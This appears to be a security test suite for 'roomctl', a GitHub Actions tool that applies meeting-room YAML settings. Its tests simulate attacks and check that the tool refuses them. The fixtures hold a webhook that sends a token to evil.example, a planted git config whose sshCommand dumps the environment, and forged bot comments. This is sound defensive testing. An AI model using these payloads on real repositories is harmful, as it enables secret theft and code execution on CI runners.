        check(s.apply(sha, allow="guard-weakened") is False, s.runner.log)
        refused(s, 5)
        return stopped

    with leaving_out(s):
        # Once merged without a plan, and once in a plan that is not over, since the next was made before it was merged.
        s.straight_to_main({"roomctl.yaml": config})
        by_hand(s.merge(one("after-1")))
        check(s.apply(s.merge(one("after-2"))) is False and s.room("after-2"), s.runner.log)
        s.straight_to_main({"roomctl.yaml": config + RULES})
        check(s.apply(s.merge(one("after-3"))) is False and s.room("after-3"), s.runner.log)
        weak = s.pull_request({"roomctl.yaml": config, "rooms/quick-4.yaml": "maxParticipants: 15\n"}, who="maintainer")
        later = one("after-4")
        stopped = by_hand(s.merge(weak))
        check(s.apply(s.merge(later)) is False and s.room("after-4"), s.runner.log)
        refused(s, 5)
    return f"nothing, as it should be; before that {stopped}"


@attack("14", "a fork", "a rate at which adopt does not end, in a merge that starts nothing")
def a_rate_for_adopt(s):
    s.merge(s.open({"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + "rate: 0.01/m\n"}))
    before = json.loads(s.room("tea"))["maxParticipants"]
    s.by_hand("tea", '{"maxParticipants": 8}')
    began = time.monotonic()
    check(s.adopt() and time.monotonic() - began < 20, s.runner.log)
    # Its lines are put on top of what was merged since.
    check(git("-C", s.origin, "rev-parse", "roomctl-adopt^") == s.main(), s.runner.log)
    check("rate: 0.01/m" in git("-C", s.origin, "show", "roomctl-adopt:roomctl.yaml"), s.runner.log)
    s.by_hand("tea", json.dumps({"maxParticipants": before}))
    return "adopt in drift.yml, which goes by the configuration of the last commit that a run went by"


# --- what a comment may leave out


def reads(s, pull):
    """A comment as it is read."""
    return html.unescape(s.comment_of(pull)).replace("<!-- -->", "")


@attack("1, 11", "somebody who may push branches", "labels that count for nothing, in front of a comment that is full")
def labels_that_fill_a_comment(s):
    pull = s.open({"rooms/room-first.yaml": "maxParticipants: 4\n"}, who="member")
    for n in range(70):
        s.hub.label(pull, f"roomctl:allow/{n:02}{'x' * 34}", "member")
    rooms = {f"rooms/room-{n:03}.yaml": f"maxParticipants: {n + 10}\n" for n in range(183)}
    s.push_to(pull, {**rooms, "rooms/zz-leak.yaml": "meetingEndedWebhook: https://evil.example/${env:ROOM_TICKETS_TOKEN}\n"})
    check(s.commented and "evil.example" in reads(s, pull), s.comment_of(pull)[-400:])
    check("70 labels do not count" in reads(s, pull) and len(s.comment_of(pull)) < 65_536, len(s.comment_of(pull)))
    return "notes that are short, and a report that is asked to fit behind them"


@attack("1", "a fork", "another room's secret in one room of more than a reader looks through")
def a_room_among_many(s):
    rooms = {f"rooms/many/a{n:03}.yaml": "maxParticipants: 5\n" for n in range(215)}
    hook = {"rooms/many/_defaults.yaml": "meetingEndedWebhook: https://hooks.example.com/${env:ROOM_TICKETS_TOKEN}\n"}
    pull = s.pull_request({**rooms, **hook, "rooms/many/zz.yaml": "maxParticipants: 5\n"})
    check(s.commented and "<code>zz</code>" in s.comment_of(pull), s.comment_of(pull)[-400:])
    # Also where no two are alike: what does not fit otherwise is the names of rooms, and all of them.
    rooms = {f"rooms/many/own{n:04}.yaml": f"maxParticipants: {n + 6}\n" for n in range(1200)}
    pull = s.pull_request({**rooms, **hook, "rooms/many/zz.yaml": "maxParticipants: 5\n"})
    names = re.findall(r"\w+", re.sub("<.*?>", " ", s.comment_of(pull)))
    check(s.commented and {f"own{n:04}" for n in range(1200)} | {"zz"} <= set(names), s.comment_of(pull)[:900])
    return "a report that leaves out no room that it does something to"


@attack("2, 11", "a fork", "what is weaker at the end of a long line, behind a comment, or one of many names")
def what_is_weaker_and_not_shown(s):
    config, long = (s.clone / "roomctl.yaml").read_text(), " && ".join(f"room.maxParticipants < {n}" for n in range(900, 930))
    for before, now, seen in (
        (f"policies: [{{id: p, message: m, rooms: nobody, expression: '{long}'}}]\n", ("929'", "929 || true'"), "929 || true`"),
        ("policies:\n  - id: p\n    message: m\n    rooms: nobody\n    expression: |-\n      false // no\n", ("no\n", "no\n      || true\n"), "// no⏎|| true`"),
        ("unmanaged: [z]\n", ("z]", "a, b, c, d, e, f, g, z]"), "a, b, c, d, e, f, g"),
        ("owns: ['*']\n", ("['*']", "[a*, b*]"), "'a*', 'b*'"),
        ("protected: [aa, bb, cc]\n", ("[aa, bb, cc]", "[dd]"), "dd; no longer protected: aa, bb, cc"),
        ("state: .roomctl/state.json\n", (".roomctl/state", "two"), "`.roomctl/state.json` → `two.json`"),
        ("app: acme\n", ("acme", "other"), "`acme` → `other`"),
    ):
        there = config.replace("app: acme\n", "") if before.startswith("app") else config
        s.straight_to_main({"roomctl.yaml": there + before})
        pull = s.pull_request({"roomctl.yaml": there + before.replace(*now)})
        check(seen in reads(s, pull), f"{seen}: {reads(s, pull)}")
    return "comment.yml, which shows what there was and what there is now"


@attack("2, 11", "a fork", "two reviewed changes of one pattern, which git merges into a third that nobody saw")
def two_changes_of_a_pattern(s):
    owns = 'owns:\n  - "*"\n  - "t\\\n\n    ea-[x]\\\n\n    "\n'
    strong = {"roomctl.yaml": (s.clone / "roomctl.yaml").read_text() + GUARD.replace("]", ", guard-weakened]") + owns, "rooms/quick-4.yaml": "maxParticipants: 61\n"}
    check(s.apply(s.merge(s.pull_request(strong, who="maintainer")), allow="guard-weakened"), s.runner.log)
    base = (s.clone / "roomctl.yaml").read_text()
    moved = (base.replace('  - "t\\\n', '  - "*\\\n'), base.replace('    "\n', '    *"\n'))
    pulls = [s.pull_request({"roomctl.yaml": config}) for config in moved]
    for pull in pulls:
        s.hub.label(pull, "roomctl:allow/guard-weakened", "maintainer")
        s.plan(pull)
    s.merge(pulls[0])
    check(s.apply(s.merge(pulls[1])) is False, s.runner.log)
    return refused(s, 4, "guard-weakened: no reviewed plan says")


crippled("an attribute of git that ends the lines of scripts otherwise", "*.sh text eol=crlf\n")
crippled("attributes of git that put all files into another encoding", "* text working-tree-encoding=UTF-16LE-BOM\n")
crippled("an attribute of git that lets no checkout end", "* text working-tree-encoding\n")


@attack("2", "a fork", "an attribute of git that changes what is checked out where a job before left its files")
def a_checkout_that_differs(s):
    s.runner.begins_anew = False
    said = []
    for file in ("mutes.yaml", "*.py"):
        before = s.main()
        s.straight_to_main({".gitattributes": f"{file} text eol=crlf\n"})
        pull = s.pull_request({"mutes.yaml": f"mutes: {json.dumps([{**MUTE, 'room': 'tea'}])}\n"})
        check(s.apply(s.merge(pull)) is False, s.runner.log)
        said.append(refused(s, 4, "otherwise than it is committed"))
        check("see .gitattributes" in told(s, "apply")["body"], told(s, "apply"))
        s.go_on(before)
    s.runner.begins_anew = True
    return said[-1]


@attack("3", "a fork", "many artifacts, each worth a question to GitHub, named as the plans of somebody else")
def many_artifacts(s):
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 12\n"}, who="maintainer")
    theirs = {"id": len(s.hub.runs) + 1, "head_branch": "main", "head_repository": {"full_name": "stranger/rooms"}}
    s.hub.runs[theirs["id"]] = theirs | {"repository": {"full_name": "acme/rooms"}}
    for _ in range(10_100):
        s.hub.artifact(theirs["id"], f"roomctl-plan-{pull['number']}", b"")
    # And one of a fork that is gone by now, whose name nobody knows any more.
    gone = {"id": len(s.hub.runs) + 1, "path": ".github/workflows/comment.yml", "event": "workflow_run", "head_branch": "main", "head_repository": None}
    s.hub.runs[gone["id"]] = gone | {"repository": {"full_name": "acme/rooms"}, "run_attempt": 1, "head_sha": s.main()}
    s.hub.artifact(theirs["id"], f"roomctl-plan-{pull['number']}", b"")
    s.hub.artifacts[len(s.hub.artifacts)]["workflow_run"] = {"id": gone["id"], "head_branch": "main", "repository_id": 1, "head_repository_id": None}
    before, began = len(s.hub.asked), s.main()
    check(s.apply(s.merge(pull)), s.runner.log)
    check(len(s.hub.asked) - before < 140, s.hub.asked[before:][-99:])
    # Of so many that nobody looks at all of them, the newest are seen. What was noted of the comment is not among them, so that it
    # takes another push until it counts.
    for _ in range(20_000):
        s.hub.artifact(theirs["id"], f"roomctl-plan-{pull['number']}", b"")
    s.go_on(began)
    pull.update(state="open", merged_at=None)
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 14\n"})
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 13\n"})
    before = len(s.hub.asked)
    check(s.apply(s.merge(pull)) and '"maxParticipants":13' in s.room("quick-2"), s.runner.log)
    check(len(s.hub.asked) - before < 40, s.hub.asked[before:][-99:])
    return "reviewed.py, which asks for no run of another repository, and for pages only until it has what was shown last"


@attack("9", "a fork", "a directory that looks like a bare repository, whose settings start a program, where the action works")
def a_bare_repository(s):
    config = {"meetings/roomctl.yaml": (s.clone / "roomctl.yaml").read_text(), "meetings/rooms/_defaults.yaml": "privacy: private\n"}
    ran = s.work / "ran"
    settings = f'[core]\n\trepositoryformatversion = 1\n\tbare = true\n\tsshCommand = "env > {ran}; false"\n[extensions]\n\tpartialClone = origin\n'
    settings += '[remote "origin"]\n\turl = ssh://x.example/y\n\tpromisor = true\n'
    repository = {"meetings/HEAD": "ref: refs/heads/main\n", "meetings/config": settings, "meetings/objects/x": "", "meetings/refs/heads/x": ""}
    for files in (config, repository):
        sha = s.straight_to_main(files)
        given = {"command": "apply", "state": "roomctl-meetings", "applied": sha, "github-token": s.run.token, "working-directory": "meetings", "version": "0.1.0"}
        s.runner.action(sha, {}, {**given, "secret-key": KEY})
        check(not ran.exists(), "a program of the checkout ran")
        check(git("-C", s.origin, "show", "roomctl-meetings:applied") == sha, "what is kept as applied goes on")
    git("-C", s.origin, "update-ref", "-d", "refs/heads/roomctl-meetings")
    return "state.sh, which starts git beside the nearest .git"


@attack("13", "a fork", "a name that is not UTF-8, or a directory without end, full or empty, merged and undone")
def what_cannot_be_listed(s):
    s.merge(s.pull_request({"rooms/quick-4.yaml": "maxParticipants: 62\n"}))
    lines = git("-C", s.clone, "ls-tree", "main:rooms") + "\n"
    blob = git("-C", s.clone, "hash-object", "-w", "rooms/tea.yaml")
    inside = [["100644 blob", blob], ["040000 tree", git("-C", s.clone, "mktree", given="")]]
    for one in inside:
        for _ in range(8):
            one[:] = "040000 tree", git("-C", s.clone, "mktree", given="".join(f"{' '.join(one)}\td{n}\n" for n in range(10)))
    more = [f"{' '.join(one)}\tmore\n" for one in inside]
    named = f"100644 blob {blob}".encode() + b"\tcaf\xe9.txt\n"
    for line in (*map(str.encode, more), named):
        rooms = subprocess.run(["git", "-C", s.clone, "mktree"], input=lines.encode() + line, capture_output=True, check=True).stdout.decode().strip()
        top = [one for one in git("-C", s.clone, "ls-tree", "main").splitlines() if not one.endswith("\trooms")]
        tree = git("-C", s.clone, "mktree", given="\n".join([*top, f"040000 tree {rooms}\trooms\n"]))
        merged = git("-C", s.clone, "commit-tree", tree, "-p", "main", "-m", "Notes")
        git("-C", s.clone, "update-ref", "refs/heads/main", git("-C", s.clone, "commit-tree", "main^{tree}", "-p", merged, "-m", "Revert"))
        s.push("main")
        check(s.drift(), s.run.log())
    check(s.apply(s.main()) is False and "cannot be listed, and counts as everything" in s.run.log(), s.run.log())
    pull = s.pull_request({"rooms/quick-4.yaml": "maxParticipants: 63\n"})
    check(s.commented and s.apply(s.merge(pull)) and '"maxParticipants":63' in s.room("quick-4"), s.run.log())
    check(s.drift(), s.run.log())
    return "reviewed.py, which bounds what git lists, counts what it cannot as everything, and goes on with a plan that was made on top"


@attack("5", "an accident", "a git that is killed before it said anything")
def git_is_killed(s):
    pull = s.pull_request({"rooms/quick-4.yaml": "maxParticipants: 64\n"})
    sha, spy = s.merge(pull), s.binary / "git"
    for command in ("rev-list", "diff-tree", "merge-base", "ls-files", "hash-object"):
        spy.write_text(f'#!/bin/bash\nfor one in "$@"; do [ "$one" != {command} ] || kill -KILL $$; done\nexec {shutil.which("git")} "$@"\n')
        spy.chmod(0o755)
        # Not where the action keeps what it did.
        s.runner.before["Apply"] = spy.unlink
        check(s.apply(sha) is False and '"maxParticipants":64' not in s.room("quick-4"), f"{command}: {s.run.log()}")
        stopped = f"{s.run.workflow}, {s.run.failed}"
        spy.unlink(missing_ok=True)
    del s.runner.before["Apply"]
    check(s.apply(sha), s.run.log())
    return stopped


@attack("3", "somebody who may push branches", "a workflow of their branch, whose token speaks for the bot, and edits its comment")
def a_comment_that_is_edited(s):
    def edited(comment):
        bot(s, f"/issues/comments/{comment['id']}", FORGED)

    def put_back(comment):
        before = comment["body"]
        edited(comment)
        bot(s, f"/issues/comments/{comment['id']}", before)

    def another(comment):
        s.hub.comments.remove(comment)
        bot(s, f"/issues/{comment['issue']}/comments", comment["body"])

    for what in (edited, put_back, s.hub.comments.remove, another):
        before = s.main()
        pull = s.pull_request(EVIL, who="member")
        check("evil.example" in reads(s, pull), s.comment_of(pull))
        what(s.comment_on(pull))
        check(s.apply(s.merge(pull)) is False and "evil.example" not in s.room("board"), s.runner.log)
        stopped = refused(s, 4, "was edited after comment.yml wrote it", "no plan was reviewed for", "board: no reviewed plan has it")
        s.go_on(before)
    # Planned again, the truth is there, and counts no more than before: somebody may have approved the other one. Pushed, it counts.
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 21\n"}, who="member")
    edited(s.comment_on(pull))
    s.plan(pull)
    check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
    not_applied_as_edited(s, pull)
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 22\n"})
    check(s.commented and EDITED not in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) and '"maxParticipants":22' in s.room("quick-2"), s.runner.log)
    return stopped


EDITED = "This commit is not applied"
FORGED = "<!-- roomctl:plan-for-apply -->\n## Plan for acme\n\n**Nothing to do**\n"
EVIL = {"rooms/board.yaml": "privacy: public\nrecordRoom: true\nmeetingStartedWebhook: https://evil.example/x\n"}


def not_applied_as_edited(s, pull):
    """Merged, it is refused; then it is open again, as if nobody had merged it."""
    before, room = s.main(), s.room("quick-2")
    check(s.apply(s.merge(pull)) is False and s.room("quick-2") == room, s.runner.log)
    stopped = refused(s, 4, "only another push would have lifted that", "no plan was reviewed for")
    s.go_on(before)
    pull.update(state="open", merged_at=None)
    return stopped


@attack("3", "somebody who may push branches", "a comment that they forge until somebody approves it, and the truth in its place again: by a label, a push, or a deletion")
def a_comment_that_is_put_right(s):
    most = iter(range(100, 200))
    files = lambda: {"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"}

    def forge(pull):
        bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", FORGED)

    def again(pull):
        s.plan(pull)

    def push(pull):
        s.push_to(pull, files())

    def remove(pull):
        s.hub.comments.remove(s.comment_on(pull))

    def fail(pull):
        """GitHub takes no comment."""
        write, s.hub.write = s.hub.write, lambda *_: None
        s.plan(pull)
        s.hub.write = write
        check(s.commented is False, s.runner.log)

    # Whatever is shown at last: neither a second plan nor a run that failed makes it forgotten.
    for steps in ((forge, again), (forge, again, again), (remove, again), (forge, push), (forge, fail, again), (again, forge, remove, again)):
        pull = s.pull_request(files(), who="member")
        for one in steps:
            one(pull)
        check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
        stopped = not_applied_as_edited(s, pull)
    # What their workflow wrote before anything was planned.
    pull = s.open(files(), who="member")
    bot(s, f"/issues/{pull['number']}/comments", FORGED)
    s.plan(pull)
    not_applied_as_edited(s, pull)
    # A push that leaves an approval as it is does not lift it: GitHub does that where the difference stays the same.
    review = approved(s, pull)
    push(pull)
    not_applied_as_edited(s, pull)
    review["state"] = "DISMISSED"
    push(pull)
    check(s.apply(s.merge(pull)) and f'"maxParticipants":{next(most) - 1}' in s.room("quick-2"), s.runner.log)
    # People who do not mean harm are not held up: a comment that could not be written, also the first, a commit that cannot be planned, and
    # another plan of the same.
    pull = s.open({"rooms/quick-2.yaml": "privacy: [\n"}, who="member")
    fail(pull)
    again(pull)
    check(EDITED not in s.comment_of(pull), s.comment_of(pull))
    push(pull)
    fail(pull)
    again(pull)
    check(s.apply(s.merge(pull)) and f'"maxParticipants":{next(most) - 1}' in s.room("quick-2"), s.runner.log)
    return stopped


def approved(s, pull, who="maintainer"):
    """The approval of somebody who believes what is shown; gives it out."""
    review = {"user": {"login": who, "type": "Bot" if who.endswith("[bot]") else "User"}, "state": "APPROVED", "commit_id": pull["head"]["sha"], "submitted_at": s.hub.now()}
    s.hub.reviews.append((pull["number"], review))
    return review


def deceived(s, pull):
    """The comment is forged until somebody approves it; gives out the approval."""
    bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", FORGED)
    return approved(s, pull)


def forgotten(s, pull):
    """All that was noted of a pull request is deleted."""
    for one in s.hub.artifacts.values():
        one["name"] = one["name"].removesuffix(f"-{pull['number']}")


def on_top(s, pull):
    """Goes on a commit without a difference."""
    git("-C", s.clone, "checkout", "-q", pull["branch"])
    git("-C", s.clone, "commit", "-q", "--allow-empty", "-m", "Nothing")
    return git("-C", s.clone, "rev-parse", "HEAD")


@attack("3", "somebody who may push branches", "a comment that they forge until somebody approves it, and a push there and back that leaves the approval as it is")
def an_approval_and_a_push_there_and_back(s):
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 201\n"}, who="member")
    first, review = pull["head"]["sha"], deceived(s, pull)
    for sha in (on_top(s, pull), first):
        back_to(s, pull, sha)
        s.plan(pull)
        check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
        stopped = not_applied_as_edited(s, pull)
    review["state"] = "DISMISSED"
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 202\n"})
    approved(s, pull)
    check(s.apply(s.merge(pull)) and '"maxParticipants":202' in s.room("quick-2"), s.run.log())
    return stopped


@attack("3", "somebody with write access", "all that was noted of a comment, deleted behind an approval of what they made of it, also where an App of the team writes it")
def an_approval_of_what_is_forgotten(s):
    app, most = {"type": "Bot", "login": "acme-rooms[bot]"}, iter(range(210, 300))
    for s.hub.bot, s.runner.variables in ((BOT, {}), (app, {"ROOMCTL_BOT": app["login"]})):
        pull = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"}, who="member")
        review = deceived(s, pull)
        s.hub.comments.remove(s.comment_on(pull))
        forgotten(s, pull)
        s.plan(pull)
        check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
        not_applied_as_edited(s, pull)
        # Once nobody is deceived any more, a push lifts it.
        review["state"] = "DISMISSED"
        approved(s, pull, "stranger")
        s.push_to(pull, {"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"})
        check(s.apply(s.merge(pull)), s.run.log())
        # Approved, and gone, before anything was planned, or in the midst of that.
        for step in (None, "Plan"):
            pull = s.open({"rooms/quick-2.yaml": f"maxParticipants: {next(most)}\n"}, who="member")
            s.runner.before[step] = lambda: approved(s, pull)
            s.plan(pull) if step else (approved(s, pull), s.plan(pull))
            s.runner.before.pop(step)
            check(s.commented and EDITED in s.comment_of(pull), s.comment_of(pull))
            stopped = not_applied_as_edited(s, pull)
    s.hub.bot, s.runner.variables = BOT, {}
    return stopped


@attack("3", "somebody who may push branches", "a second pull request of the same commits, or of all but an empty one, which is merged with the one whose comment they forge or whose plans they delete")
def a_twin_that_is_merged_as_well(s):
    def remove(pull):
        deceived(s, pull)
        s.hub.comments.remove(s.comment_on(pull))
        forgotten(s, pull)

    forge = lambda pull: bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", FORGED)
    ways = ((False, forge), (True, forge), (False, remove), (True, remove), (True, None))
    for most, (is_longer, what) in enumerate(ways, 401):
        before = s.main()
        twin = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {most}\n"}, who="member")
        pull = s.open_commit(None, "member")
        back_to(s, pull, on_top(s, twin) if is_longer else twin["head"]["sha"])
        s.plan(pull)
        if what:
            what(pull)
        sha = s.merge(pull)
        # As GitHub does with each whose commits are in the default branch by then.
        twin.update(state="closed", merged_at=pull["merged_at"])
        twin["commits"][sha] = 1
        check(s.apply(sha) is (not what) and (f'"maxParticipants":{most}' in s.room("quick-2")) is (not what), s.run.log())
        if what:
            stopped = refused(s, 4, f"the plan of pull request {pull['number']} does not count", "quick-2: no reviewed plan has it")
            s.go_on(before)
    return stopped


def refused_evil(s):
    """A pull request that was approved upon a forged comment, merged and refused; whatever is planned from now on shows it, too."""
    pull = s.pull_request(EVIL, who="member")
    deceived(s, pull)
    check(s.apply(s.merge(pull)) is False, s.run.log())


def not_there(s, *words):
    check("evil.example" not in (s.room("board") or ""), s.room("board"))
    return refused(s, 4, *words)


@attack("3", "somebody with write access", "what was refused before, in a plan that is made again of an approved pull request, for a label or a push without a difference; and an approval of theirs, or none any more, before or behind the merge")
def a_plan_that_grows_behind_its_approval(s):
    s.hub.permissions["member"] = "write"
    dismissed = lambda pull, review: review.update(state="DISMISSED")
    theirs = lambda pull, review: approved(s, pull, "member")
    for most, (push, then) in enumerate(((None, dismissed), (None, theirs), (on_top, theirs)), 501):
        before = s.main()
        pull = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {most}\n"}, who="colleague")
        review = approved(s, pull)
        refused_evil(s)
        if push:
            back_to(s, pull, push(s, pull))
        s.plan(pull)
        check("evil.example" in s.comment_of(pull) and EDITED in s.comment_of(pull), s.comment_of(pull))
        then(pull, review)
        s.plan(pull)
        sha = s.merge(pull)
        for inputs in ({}, {"max-changes": "9"}):
            check(s.apply(sha, **inputs) is False, s.run.log())
            stopped = not_there(s, "was edited or deleted", "board: no reviewed plan has it")
            then(pull, review)
        s.go_on(before)
    # What says the same counts, also where a comment could not be written; and so does what is approved as it is, once it is pushed.
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 511\n"}, who="colleague")
    review = approved(s, pull)
    write, s.hub.write = s.hub.write, lambda *_: None
    s.plan(pull)
    s.hub.write = write
    s.plan(pull)
    check(EDITED not in s.comment_of(pull), s.comment_of(pull))
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 512\n"})
    check(EDITED in s.comment_of(pull), s.comment_of(pull))
    review["state"] = "DISMISSED"
    s.push_to(pull, {"rooms/quick-2.yaml": "maxParticipants: 513\n"})
    approved(s, pull)
    s.plan(pull)
    check(s.apply(s.merge(pull)) and '"maxParticipants":513' in s.room("quick-2"), s.run.log())
    return stopped


@attack("3", "somebody with write access", "one plan deleted from the middle of those that were shown, so that an approval seems given to the one before it, which showed what was refused")
def a_hole_in_what_was_shown(s):
    s.hub.permissions["member"] = "write"
    before = s.main()
    pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 601\n"}, who="colleague")
    refused_evil(s)
    s.plan(pull)
    check("evil.example" in s.comment_of(pull) and EDITED not in s.comment_of(pull), s.comment_of(pull))
    s.go_on(before)
    s.plan(pull)
    check("evil.example" not in s.comment_of(pull), s.comment_of(pull))
    middle = max(s.hub.artifacts)
    approved(s, pull)
    s.plan(pull)
    s.hub.artifacts[middle]["name"] = "gone"
    refused_evil(s)
    s.plan(pull)
    check("evil.example" in s.comment_of(pull) and EDITED in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False, s.run.log())
    return not_there(s, "was edited or deleted", "board: no reviewed plan has it")


@attack("3", "somebody with write access", "what was refused before, in a plan that is made again behind an approval that does not seem to count: of somebody who may write later, of an App, or of somebody who asked for changes since, which is dismissed")
def an_approval_that_counts_later(s):
    s.hub.permissions["member"] = "write"
    for n, who in enumerate(("newcomer", "approver[bot]", "maintainer"), 701):
        before = s.main()
        pull = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {n}\n"}, who="colleague")
        approved(s, pull, who)
        if who == "maintainer":
            approved(s, pull, who)["state"] = "CHANGES_REQUESTED"
        refused_evil(s)
        s.plan(pull)
        check("evil.example" in s.comment_of(pull) and (EDITED in s.comment_of(pull)) == (who != "newcomer"), s.comment_of(pull))
        s.hub.permissions["newcomer"] = "write"
        check(s.apply(s.merge(pull)) is False, s.run.log())
        stopped = not_there(s, "board: no reviewed plan has it")
        s.go_on(before)
    return stopped


@attack("3", "somebody who may push branches", "the very commits of an approved pull request as another one of theirs, with another plan or a label that the approved one has not")
def a_twin_with_another_plan(s):
    for is_older in (True, False):
        before = s.main()
        mine = s.open({"rooms/quick-9.yaml": "maxParticipants: 2\n"}, who="member") if is_older else None
        pull = s.pull_request({"rooms/quick-2.yaml": f"maxParticipants: {511 + is_older}\n"}, who="colleague")
        approved(s, pull)
        refused_evil(s)
        mine = mine or s.open_commit(None, "member")
        back_to(s, mine, pull["head"]["sha"])
        mine["commits"] = {}
        s.plan(mine)
        check("evil.example" in s.comment_of(mine) and EDITED not in s.comment_of(mine), s.comment_of(mine))
        sha = s.merge(pull)
        mine.update(state="closed", merged_at=pull["merged_at"])
        mine["commits"][sha] = 1
        check(s.apply(sha) is False, s.run.log())
        stopped = not_there(s, "which was merged with the same commit")
        s.go_on(before)
    s.hub.permissions["member"] = "write"
    mine = s.open({"rooms/quick-9.yaml": "maxParticipants: 2\n"}, who="member")
    pull = guarded(s, {"rooms/quick-4.yaml": PUBLIC})
    approved(s, pull)
    back_to(s, mine, pull["head"]["sha"])
    mine["commits"] = {}
    s.plan(mine)
    s.hub.label(mine, ALLOW, "member")
    s.plan(mine)
    sha = s.merge(pull)
    mine.update(state="closed", merged_at=pull["merged_at"])
    mine["commits"][sha] = 1
    check(s.apply(sha) is False, s.run.log())
    still_private(s, "quick-4")
    return stopped


def late(s, pull, step=None):
    """The pull request is planned again, as for a label, and merged in the midst of that: before a step, or when somebody asks for it
    alone, as comment.yml does before it writes. Gives out the merge."""
    get, merged = s.hub.get, []

    def merge():
        if not merged:
            merged.append(s.merge(pull))

    def asked(path):
        found = get(path)
        found = json.loads(json.dumps(found))
        if path == f"/pulls/{pull['number']}":
            merge()
        return found

    if step:
        s.runner.before[step] = merge
    else:
        s.hub.get = asked
    s.plan(pull)
    s.hub.get = get
    s.runner.before.pop(step, None)
    check(merged, s.runner.log)
    return merged[0]


@attack("3", "an accident", "a label that is set just before the merge, so that a plan is made again in the midst of that: this one is let through")
def a_plan_beside_the_merge(s):
    began = s.main()
    for step in ("Comment", None, "Put the plan together"):
        pull = guarded(s, {"rooms/quick-4.yaml": PUBLIC})
        before = s.comment_on(pull)["updated_at"]
        s.hub.label(pull, ALLOW, "maintainer")
        check(s.apply(late(s, pull, step)) and '"privacy":"public"' in s.room("quick-4"), s.run.log())
        check(step != "Comment" or s.comment_on(pull)["updated_at"] == before, "what is merged is shown as it was")
        check(s.apply(s.merge(s.pull_request({"rooms/quick-4.yaml": "maxParticipants: 3\n"}))), s.run.log())
        s.go_on(began)
    # What somebody edited, and what shows something else by then, counts no more than before.
    for what in ("edited", "more"):
        pull = s.pull_request({"rooms/quick-2.yaml": "maxParticipants: 44\n"}, who="member")
        if what == "edited":
            bot(s, f"/issues/comments/{s.comment_on(pull)['id']}", "<!-- roomctl:plan-for-apply -->\n**Nothing to do**\n")
        else:
            s.straight_to_main({"rooms/quick-3.yaml": "maxParticipants: 45\n"})
        began = s.main()
        check(s.apply(late(s, pull, "Put the plan together")) is False and '"maxParticipants":44' not in s.room("quick-2"), s.run.log())
        words = {"edited": "only another push would have lifted that", "more": "was edited after comment.yml wrote it"}
        stopped = refused(s, 4, words[what], "no plan was reviewed for")
        s.go_on(began)
    return f"nothing, as it should be; what was edited or shows more: {stopped}"


def bot(s, path, text):
    """What a workflow of any branch of the repository writes with its own token, which the bot's comments have as well."""
    method = "PATCH" if "/comments/" in path else "POST"
    asked = urllib.request.Request(f"{s.hub.url}/repos/{REPOSITORY}{path}", data=json.dumps({"body": text}).encode(), method=method)
    asked.add_header("Authorization", f"Bearer {WRITE}")
    urllib.request.urlopen(asked, timeout=10).close()


@attack("4", "somebody who may push branches", "a pull request that went into a branch of theirs before, so that what is merged for trial is on top of that")
def a_base_of_another_branch(s):
    git("-C", s.clone, "checkout", "-q", "-B", "theirs", "main")
    s.write("rooms/tea.yaml", "maxParticipants: 77\nprivacy: public\n")
    theirs = s.commit("Theirs")
    s.push("theirs")
    pull = s.open_commit(None, "member")
    git("-C", s.clone, "checkout", "-q", "-B", pull["branch"], "theirs")
    s.push_to(pull, {"rooms/mine.yaml": "maxParticipants: 3\n"}, plan=False)
    head = pull["head"]["sha"]
    merge = git("-C", s.clone, "commit-tree", f"{head}^{{tree}}", "-p", theirs, "-p", head, "-m", "Merge")
    git("-C", s.clone, "push", "-q", "-f", "origin", f"{merge}:refs/pull/{pull['number']}/merge")
    s.comment(pull)
    first = not_planned(s, pull, "not planned", "not of the default branch")
    # As if it had been planned while the default branch held that commit.
    compare, s.hub.compare = s.hub.compare, lambda *_: {"status": "behind"}
    s.comment(pull)
    s.hub.compare = compare
    check(s.commented and "merged earlier" in s.comment_of(pull), s.comment_of(pull))
    check(s.apply(s.merge(pull)) is False and '"maxParticipants":77' not in s.room("tea"), s.runner.log)
    return f"{first}; and if it were: {refused(s, 4, 'a commit that is not of the default branch', 'no plan was reviewed for')}"


@attack("5", "somebody who may push branches", "branches whose names end like those of the state and of what is adopted, and a tag that is named like the default branch")
def names_that_end_alike(s):
    of = lambda ref: git("-C", s.origin, "rev-parse", ref)
    state = of("refs/heads/roomctl-state")
    s.by_hand("tea", '{"maxParticipants": 17}')
    # Where the true ones are there, and where they are not.
    for most, gone in enumerate((False, True), 301):
        for name in ("state", "adopt"):
            git("-C", s.origin, "update-ref", f"refs/heads/x/refs/heads/roomctl-{name}", "main")
        if gone:
            git("-C", s.origin, "update-ref", "-d", "refs/heads/roomctl-adopt")
        check(s.adopt() and of("refs/heads/roomctl-adopt"), s.run.log())
        if gone:
            git("-C", s.origin, "update-ref", "-d", "refs/heads/roomctl-state")
        git("-C", s.origin, "update-ref", "refs/tags/main", git("-C", s.origin, "rev-list", "--max-parents=0", "refs/heads/main"))
        pull = s.pull_request({"rooms/quick-3.yaml": f"maxParticipants: {most}\n"})
